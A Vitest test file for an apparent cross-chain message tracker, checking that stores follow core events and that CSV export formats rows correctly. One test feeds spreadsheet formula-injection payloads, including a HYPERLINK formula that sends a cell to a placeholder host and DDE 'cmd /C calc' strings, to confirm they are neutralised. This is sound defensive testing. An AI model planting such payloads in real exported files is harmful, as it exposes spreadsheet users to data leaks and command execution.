// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { messagesToCsv } from '../../src/renderer/src/logic/csv';
import { useSettingsStore } from '../../src/renderer/src/stores/settings';
import { useUiStore } from '../../src/renderer/src/stores/ui';
import { useWatchlistStore } from '../../src/renderer/src/stores/watchlist';
import { parseMessage } from '../../src/shared/messages';
import { BEAM, message, msgId, rawMessage, txHash } from './fixtures';
import { setupRealRenderer, until } from './real-core';

describe('each store follows the events it subscribed to (real core)', () => {
  it('focus-message opens the message from the cache; an unknown ID opens the drawer with nothing found', async () => {
    const r = await setupRealRenderer();
    const a = r.service.simulator.addresses[0]!;
    await r.core.invoke('addWatch', { address: a });
    await r.poll();
    await r.clock.advance(1000);
    const id = r.service.simulator.send({ outcome: 'normal', from: a, destination: BEAM.blockchainId });
    await r.clock.advance(1000);
    await r.poll();
    const ui = useUiStore();
    r.transport.fromShell({ type: 'focus-message', messageId: id });
    await until(() => expect(ui.detail?.messageId).toBe(id));
    expect(ui.detailOpen).toBe(true);
    r.transport.fromShell({ type: 'focus-message', messageId: msgId(99) });
    await until(() => expect(ui.detailId).toBe(msgId(99)));
    await until(() => expect(ui.detailLoading).toBe(false));
    expect(ui.detail).toBeNull();
    expect(ui.detailError).toBeNull();
  });

  it("the core's settings-changed, api-key-changed and a poll's batch reach their stores", async () => {
    const r = await setupRealRenderer();
    const settings = useSettingsStore();
    const watchlist = useWatchlistStore();
    const a = r.service.simulator.addresses[0]!;
    await watchlist.add({ address: a });
    await watchlist.load();
    await r.core.invoke('updateSettings', { pollIntervalSeconds: 90 });
    await r.core.invoke('setApiKey', { key: 'a-session-key-123' });
    await until(() => expect(settings.settings?.pollIntervalSeconds).toBe(90));
    await until(() => expect(settings.apiKey?.hasApiKey).toBe(true));
    await r.poll();
    for (let i = 0; i < 2; i++) {
      await r.clock.advance(1000);
      r.service.simulator.send({ outcome: 'normal', from: a, destination: BEAM.blockchainId, deliveryDelayMs: 3_600_000 });
    }
    await r.clock.advance(1000);
    const reads = r.transport.callsOf('listWatches').length;
    await r.poll();
    await until(() => expect(watchlist.totalUnread).toBe(2));
    expect(r.transport.callsOf('listWatches')).toHaveLength(reads); // applied in place
  });
});

describe('CSV export', () => {
  it('writes one row per message with chain names, ISO times and the formatted reward, quoting where needed', () => {
    const unknown = parseMessage(rawMessage({ n: 3, status: 'relaying', extra: { from: 'a, "quoted" sender' } }))!;
    const csv = messagesToCsv([message({ n: 1, latency: 30 }), message({ n: 2, status: 'pending' }), unknown]);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(parsed.errors).toEqual([]);
    const [a, b, c] = parsed.data;
    expect(a).toMatchObject({
      messageId: msgId(1),
      status: 'delivered',
      sourceChain: 'C-Chain',
      destinationChain: 'Beam',
      sourceTxHash: txHash(1),
      latencySeconds: '30',
      reward: '1.5',
      rewardSymbol: 'WAVAX',
      receiptDelivered: 'true',
    });
    expect(a?.sourceTime).toBe(new Date((1_767_225_600 - 60) * 1000).toISOString());
    expect(b).toMatchObject({ status: 'pending', destinationTxHash: '', latencySeconds: '' });
    expect(c).toMatchObject({ status: 'relaying', from: 'a, "quoted" sender' });
  });

  it('neutralises cells a spreadsheet would run as formulas with a leading apostrophe, quoted; numbers stay numbers', () => {
    const hostile = (n: number, from: string, symbol: string) => {
      const raw = rawMessage({ n, from, latency: 45 });
      (raw.rewardDetails as { symbol: string }).symbol = symbol;
      return parseMessage(raw)!;
    };
    const cells: [string, string][] = [
      ['=HYPERLINK("http://x.invalid/?"&A1,"fee")', "+1+cmd|' /C calc'!A0"],
      ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
      ['\t=1+1', '\r=1+1'],
      ['=1+1\nsecond line', '＝1+1'],
      ['＋1', '－1+1'],
      ['＠SUM(A1)', 'WAVAX'],
    ];
    const csv = messagesToCsv(cells.map(([from, symbol], i) => hostile(i + 1, from, symbol)));
    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(rows.map((r) => [r.from, r.rewardSymbol])).toEqual(cells.map((pair) => pair.map((v) => (v === 'WAVAX' ? v : `'${v}`))));
    // Each such cell is quoted in the file, so the apostrophe is part of the text.
    expect(csv).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""fee"")"`);
    expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    // The number column stays a number; a text cell that is only a decimal number (it cannot run) is left as it is.
    expect(rows.every((r) => r.latencySeconds === '45')).toBe(true);
    const plain = messagesToCsv([hostile(9, '-5', '+1.5')]);
    expect(Papa.parse<Record<string, string>>(plain, { header: true }).data[0]).toMatchObject({ from: '-5', rewardSymbol: '+1.5' });
  });
});
